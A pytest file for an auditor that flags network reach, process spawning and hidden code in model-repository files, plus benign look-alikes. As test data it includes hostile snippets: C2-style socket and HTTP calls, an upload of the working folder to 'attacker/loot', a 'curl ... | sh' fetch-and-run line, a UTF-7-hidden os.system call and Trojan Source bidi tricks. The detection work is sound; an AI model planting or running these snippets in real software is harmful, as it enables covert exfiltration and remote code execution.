"""Everything shipped code can reach out with, hidden or not, and the look-alikes that are not reach.

Each hostile snippet is module-level code of a modeling file (what trust_remote_code runs on load);
its benign twin is the same code in an example script, or the harmless variant real repos ship."""
from __future__ import annotations

import base64
import bz2
import codecs
import json
import textwrap
import tracemalloc

import pytest

from auditor.model import Finding, Limits, Options, Severity
from auditor.parsers import pyast
from auditor.pipeline import audit
from auditor.scanners.code import findings_for_source


def _findings(source: str, role: str = "load", file: str = "modeling_x.py") -> list[Finding]:
    return findings_for_source(textwrap.dedent(source), file, role=role)[0]


def _worst(found: list[Finding], rule: str) -> Severity | None:
    levels = [f.severity for f in found if f.rule == rule]
    return max(levels) if levels else None


REACH = {
    "private-socket": ("import _socket\ns = _socket.socket()\ns.connect(('203.0.113.7', 443))\n", "CODE-NETWORK-CALL"),
    "vendored-requests": ("from pip._vendor import requests\nrequests.get('https://c2.example.net/cfg')\n",
                          "CODE-NETWORK-CALL"),
    "vendored-urllib3": ("import pip._vendor.urllib3 as u3\nu3.PoolManager().request('GET', 'https://c2.example.net')\n",
                         "CODE-NETWORK-CALL"),
    "socket-handler": ("import logging, logging.handlers\n"
                       "logging.getLogger().addHandler(logging.handlers.SocketHandler('203.0.113.7', 9020))\n",
                       "CODE-NETWORK-CALL"),
    "http-handler": ("from logging.handlers import HTTPHandler\nh = HTTPHandler('c2.example.net', '/log', method='POST')\n",
                     "CODE-NETWORK-CALL"),
    "dictconfig": ("import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'n': {\n"
                   "    'class': 'logging.handlers.SysLogHandler', 'address': ['203.0.113.7', 514]}}})\n",
                   "CODE-NETWORK-CALL"),
    "mp-client": ("from multiprocessing.connection import Client\nconn = Client(('203.0.113.7', 6000), authkey=b'k')\n",
                  "CODE-NETWORK-CALL"),
    "tcpstore": ("import torch.distributed as dist\nstore = dist.TCPStore('203.0.113.7', 29500, 2, False)\n",
                 "CODE-NETWORK-CALL"),
    "sentry": ("import sentry_sdk\nsentry_sdk.init(dsn='https://key@o1.ingest.sentry.io/1', traces_sample_rate=1.0)\n",
               "CODE-TELEMETRY"),
    "wandb": ("import wandb\nwandb.init(project='quasar', anonymous='must')\n", "CODE-TELEMETRY"),
    "openai-client": ("from openai import OpenAI\nclient = OpenAI(base_url='https://api.deepseek.com', api_key='sk')\n",
                      "CODE-NETWORK-CALL"),
    "hub-login": ("from huggingface_hub import login, upload_folder\nlogin(token='hf_x')\n"
                  "upload_folder(repo_id='attacker/loot', folder_path='.')\n", "CODE-HUB-DOWNLOAD"),
    "dataset-remote-code": ("import datasets\nds = datasets.load_dataset('attacker/ds', trust_remote_code=True)\n",
                            "CODE-HUB-DOWNLOAD"),
    "hub-kernel": ("from kernels import get_kernel\nact = get_kernel('attacker/activation')\n", "CODE-HUB-DOWNLOAD"),
    "pipeline-other-repo": ("from transformers import pipeline\n"
                            "pipe = pipeline('text-generation', model='attacker/helper', trust_remote_code=True)\n",
                            "CODE-FROM-PRETRAINED-REPO"),
    "hf-endpoint": ("import os\nos.environ['HF_ENDPOINT'] = 'https://hf-mirror.com'\n", "CODE-HUB-ENDPOINT"),
    "mcp-stdio": ("from mcp import StdioServerParameters\nfrom mcp.client.stdio import stdio_client\n"
                  "params = StdioServerParameters(command='npx', args=['-y', 'some-server'])\n"
                  "transport = stdio_client(params)\n", "CODE-PROCESS"),
    "nbclient": ("import nbformat\nfrom nbclient import NotebookClient\nnb = nbformat.v4.new_notebook()\n"
                 "NotebookClient(nb, kernel_name='python3').execute()\n", "CODE-PROCESS"),
    "nvcc": ("import subprocess\nsubprocess.check_call(['nvcc', '-O3', '-shared', 'k.cu', '-o', 'k.so'])\n",
             "CODE-PROCESS"),
    "load-inline": ("from torch.utils.cpp_extension import load_inline\n"
                    "mod = load_inline(name='k', cpp_sources=['int f(){return 0;}'], functions=['f'])\n",
                    "CODE-NATIVE"),
    "interactive-console": ("import code, os\ncode.InteractiveConsole().runsource(os.environ['PAYLOAD'])\n",
                            "CODE-DYNAMIC-EXEC"),
    "timeit-stmt": ("import timeit, os\ntimeit.Timer(os.environ['STMT']).timeit(1)\n", "CODE-DYNAMIC-EXEC"),
    "globals-builtins": ("import os\nb = globals()['__builtins__']\nrun = b[os.environ['K']]\n",
                         "CODE-DYNAMIC-GETATTR"),
    "vars-sys-modules": ("import sys, os\nfn = vars(sys.modules[os.environ['M']])[os.environ['F']]\n",
                         "CODE-DYNAMIC-GETATTR"),
    "dispatch-table": ("import os\nOPS = {'load': __import__, 'get': getattr}\nm = OPS['load'](os.environ['M'])\n",
                       "CODE-DYNAMIC-IMPORT"),
}


@pytest.mark.parametrize("case", sorted(REACH))
def test_reach_on_load_is_high(case):
    source, rule = REACH[case]
    found = _findings(source)
    assert (_worst(found, rule) or Severity.INFO) >= Severity.HIGH, (case, [(f.rule, f.severity) for f in found])


@pytest.mark.parametrize("case", sorted(REACH))
def test_reach_in_an_example_script_is_low(case):
    source, rule = REACH[case]
    found = _findings(source, role="example", file="examples/demo.py")
    assert found and all(f.severity <= Severity.LOW for f in found), case


def test_openai_client_evidence_names_the_base_url():
    found = _findings(REACH["openai-client"][0])
    assert "base_url='https://api.deepseek.com'" in next(f for f in found if f.rule == "CODE-NETWORK-CALL").evidence


# --- look-alikes that are not reach -------------------------------------------------------------------------

NOT_REACH = {
    "paramiko-policy": "import paramiko\npolicy = paramiko.AutoAddPolicy()\n",
    "eval-literal": "SIZES = eval('[128, 256, 512]')\nCFG = eval(\"{'a': 1}\")\n",
    "folded-literal": "x = eval('[1, ' + '2]')\n",
    "dataset-no-remote-code": "import datasets\nds = datasets.load_dataset('json', data_files='train.jsonl')\n",
    "cudnn-setting": "import torch\ntorch.backends.cudnn.benchmark = True\n",
    "hf-endpoint-read": "import os\nendpoint = os.environ.get('HF_ENDPOINT', 'https://huggingface.co')\n",
}


@pytest.mark.parametrize("case", sorted(NOT_REACH))
def test_look_alikes_are_not_findings(case):
    found = _findings(NOT_REACH[case])
    assert all(f.severity < Severity.MEDIUM for f in found), [(f.rule, f.severity, f.evidence) for f in found]


def test_import_name_from_a_constant_table_is_a_static_import():
    source = ("import importlib\nBACKENDS = {'flash': 'flash_attn', 'sdpa': 'torch.nn.functional'}\n"
              "def load(kind):\n    return importlib.import_module(BACKENDS[kind])\n"
              "for name in ['json', 'math']:\n    importlib.import_module(name)\n")
    found = _findings(source)
    dynamic = [f for f in found if f.rule == "CODE-DYNAMIC-IMPORT"]
    assert len(dynamic) == 2 and all(f.severity == Severity.LOW for f in dynamic)
    assert "flash_attn" in dynamic[0].evidence or "flash_attn" in dynamic[1].evidence
    hostile = _findings("import importlib\nT = {'a': 'json', 'b': 'socket'}\ndef f(k):\n"
                        "    return importlib.import_module(T[k])\n")
    assert _worst(hostile, "CODE-DYNAMIC-IMPORT") == Severity.HIGH


def test_notebook_from_pretrained_is_not_import_time(tmp_path):
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
            "source": ["from transformers import AutoModel\n",
                       "m = AutoModel.from_pretrained('other-org/other-model', trust_remote_code=True)\n"]}
    (tmp_path / "demo.ipynb").write_text(json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4,
                                                     "nbformat_minor": 5}))
    result = audit(str(tmp_path), Options(engines=("auditor",)))
    pulls = [f for f in result.findings if f.rule == "CODE-FROM-PRETRAINED-REPO"]
    assert pulls and all(f.severity <= Severity.LOW for f in pulls)
    assert "import time" not in pulls[0].evidence and "notebook" in pulls[0].evidence


# --- hidden code ----------------------------------------------------------------------------------------------


def test_chatglm_style_dollar_base64_bz2_kernels_are_found():
    kernel = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8          # a native blob, compressed like ChatGLM's
    code = "$" + base64.b64encode(bz2.compress(kernel)).decode()
    assert base64.b64decode(code) == bz2.compress(kernel)                # the stdlib ignores the "$"
    source = (f'from cpm_kernels.kernels.base import LazyKernelCModule, KernelFunction, round_up\n'
              f'import bz2, base64\n\nquantization_code = "{code}"\n\n'
              'kernels = LazyKernelCModule(bz2.decompress(base64.b64decode(quantization_code)))\n')
    found = _findings(source, file="quantization.py")
    assert _worst(found, "CODE-EMBEDDED-BLOB") is not None
    assert _worst(found, "CODE-NATIVE") == Severity.HIGH


def test_utf7_cookie_is_read_as_python_reads_it(tmp_path):
    hidden = "# coding: utf-7\n# configuration notes +AAo-import os+AAo-os.system('curl -s https://x.example.net')\n"
    raw = hidden.encode("ascii")
    code = compile(raw, "configuration_x.py", "exec")                   # Python itself sees the call
    assert "system" in code.co_names or any("system" in str(c) for c in code.co_consts)
    (tmp_path / "configuration_x.py").write_bytes(raw)
    (tmp_path / "plain_latin1.py").write_bytes("# -*- coding: latin-1 -*-\nNAME = 'caf\xe9'\n".encode("latin-1"))
    result = audit(str(tmp_path), Options(engines=("auditor",)))
    enc = [f for f in result.findings if f.rule == "CODE-ENCODING"]
    assert [(f.file, f.severity) for f in enc] == [("configuration_x.py", Severity.HIGH)]
    assert any(f.rule == "CODE-PROCESS" and f.file == "configuration_x.py" for f in result.findings)
    assert not [f for f in result.findings if f.file == "plain_latin1.py" and f.severity >= Severity.MEDIUM]


def test_trojan_source_bidi_controls():
    hostile = 'access = "user\u202e \u2066# check admin\u2069 \u2066"\nif access != "none":\n    pass\n'
    found = _findings(hostile)
    assert _worst(found, "CODE-TROJAN-SOURCE") == Severity.HIGH
    benign = _findings('GREETING = "\u0645\u0631\u062d\u0628\u0627"  # Arabic text, no controls\n')
    assert not [f for f in benign if f.rule == "CODE-TROJAN-SOURCE"]


# --- bounded work on hostile input -------------------------------------------------------------------------------


def test_folding_bombs_stay_bounded():
    doubling = "a0 = [0, 0]\n" + "".join(f"a{i + 1} = a{i} + a{i}\n" for i in range(60)) + "exec(str(a60))\n"
    squaring = "n0 = 99999999999\n" + "".join(f"n{i + 1} = n{i} * n{i}\n" for i in range(40)) + \
        "eval(f'{n40}')\n"
    assert len(doubling) < 2048 and len(squaring) < 1024
    tracemalloc.start()
    for source in (doubling, squaring):
        hits = pyast.analyze(source).hits
        assert [h.computed for h in hits if h.category == "dynamic-code"] == [True]
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 200 * 1024 * 1024


def test_huge_folded_int_in_one_file_does_not_hide_another(tmp_path):
    big = "9" * 4000
    (tmp_path / "bomb.py").write_text(f"x = {big} * {big}\ny = f'{{x}}{{x}}'\nz = str(x * x)\n" * 2)
    (tmp_path / "modeling_evil.py").write_text("import os\nos.system('curl https://x.example.net | sh')\n")
    result = audit(str(tmp_path), Options(engines=("auditor",)))
    assert any(f.rule == "CODE-PROCESS" and f.file == "modeling_evil.py" and f.severity == Severity.HIGH
               for f in result.findings)
    assert not [f for f in result.findings if f.rule == "SCANNER-ERROR"]


def test_text_cap_on_code_is_a_high_finding(tmp_path):
    (tmp_path / "modeling_big.py").write_text("x = 1\n" * 400)
    result = audit(str(tmp_path), Options(engines=("auditor",), limits=Limits(max_text_bytes=1000)))
    limit = [f for f in result.findings if f.rule == "CODE-LIMIT" and f.file == "modeling_big.py"]
    assert limit and limit[0].severity == Severity.HIGH


def test_codec_cookie_of_python_itself_is_honoured():
    raw = codecs.BOM_UTF8 + b"import os\nos.system('id')\n"
    decoded = pyast.decode_source(raw)
    assert decoded.text.startswith("import os") and not decoded.exotic
    assert pyast.decode_source(b"# coding: utf-7\nx = 1\n").exotic
    assert pyast.decode_source(b"# coding: no-such-codec\nx = 1\n").error
